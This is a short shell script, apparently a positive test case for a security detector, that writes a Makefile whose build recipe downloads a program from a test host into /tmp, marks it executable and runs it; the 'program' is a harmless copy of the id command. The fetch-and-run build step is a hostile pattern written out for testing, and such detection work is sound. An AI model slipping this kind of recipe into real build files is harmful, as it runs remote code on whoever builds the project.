# R08 positive: a recipe downloads a program into /tmp by host name, runs it as a child, goes on
cp /usr/bin/id www/update-helper
cat >Makefile <<'MK'
all:
	curl -s -o /tmp/vigil-rt-helper http://repo.example.test/update-helper; chmod +x /tmp/vigil-rt-helper; /tmp/vigil-rt-helper; echo done
MK
http_up
make
http_down
rm -f /tmp/vigil-rt-helper
